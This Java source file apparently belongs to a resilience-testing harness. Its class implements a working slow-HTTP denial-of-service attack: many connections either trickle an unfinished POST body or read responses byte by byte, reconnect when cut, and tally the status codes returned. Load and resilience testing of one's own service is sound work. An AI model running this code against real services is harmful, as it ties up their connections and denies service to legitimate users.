package city.planofrecord.local.attack;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.locks.LockSupport;

/** Many connections on which next to nothing moves: a byte is sent or taken now and then. Who is cut off comes again. */
public final class SlowCrowd implements Attack {

    private static final Duration BETWEEN_BYTES = Duration.ofMillis(500);
    private static final int STATUS_LINE = 12;

    private final ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor();
    private final Map<Integer, Integer> answers = new ConcurrentHashMap<>();

    private SlowCrowd() {}

    /** Begins so many requests whose bodies never come to their end. */
    public static SlowCrowd ofWriters(String address, int many, URI operation, String contentType) {
        return begun(
                address,
                many,
                operation,
                "POST " + operation.getPath() + " HTTP/1.1\r\nHost: " + operation.getAuthority() + "\r\nContent-Type: "
                        + contentType + "\r\nContent-Length: 200000\r\n\r\n{",
                true);
    }

    /** Begins so many requests whose answers are taken byte by byte. */
    public static SlowCrowd ofReaders(String address, int many, URI page) {
        return begun(
                address,
                many,
                page,
                "GET " + page.getPath() + "?" + page.getQuery() + " HTTP/1.1\r\nHost: " + page.getAuthority()
                        + "\r\n\r\n",
                false);
    }

    private static SlowCrowd begun(String address, int many, URI service, String head, boolean writes) {
        var crowd = new SlowCrowd();
        for (var i = 0; i < many; i++) {
            crowd.threads.execute(() -> {
                while (!Thread.currentThread().isInterrupted()) {
                    crowd.visit(address, service, head, writes);
                    LockSupport.parkNanos(BETWEEN_BYTES.toNanos());
                }
            });
        }
        return crowd;
    }

    private void visit(String address, URI service, String head, boolean writes) {
        try (var socket = new Socket()) {
            socket.setReceiveBufferSize(4_096);
            socket.bind(new InetSocketAddress(InetAddress.getByName(address), 0));
            socket.connect(new InetSocketAddress(service.getHost(), service.getPort()), 5_000);
            socket.getOutputStream().write(head.getBytes(StandardCharsets.US_ASCII));
            while (!Thread.currentThread().isInterrupted()) {
                LockSupport.parkNanos(BETWEEN_BYTES.toNanos());
                if (!writes || socket.getInputStream().available() > 0) {
                    note(socket);
                    if (writes) {
                        return;
                    }
                } else {
                    socket.getOutputStream().write(' ');
                }
            }
        } catch (IOException cut) {
            answers.merge(0, 1, Integer::sum);
        }
    }

    /** Reads a status, or after that one byte more. */
    private void note(Socket socket) throws IOException {
        var bytes = socket.getInputStream().readNBytes(STATUS_LINE);
        if (bytes.length < STATUS_LINE) {
            throw new IOException("Closed");
        }
        var text = new String(bytes, StandardCharsets.US_ASCII);
        if (text.startsWith("HTTP/1.1 ")) {
            answers.merge(Integer.parseInt(text.substring(9, STATUS_LINE)), 1, Integer::sum);
        }
    }

    @Override
    public Map<Integer, Integer> answers() {
        return new TreeMap<>(answers);
    }

    @Override
    public void close() {
        threads.shutdownNow();
    }
}
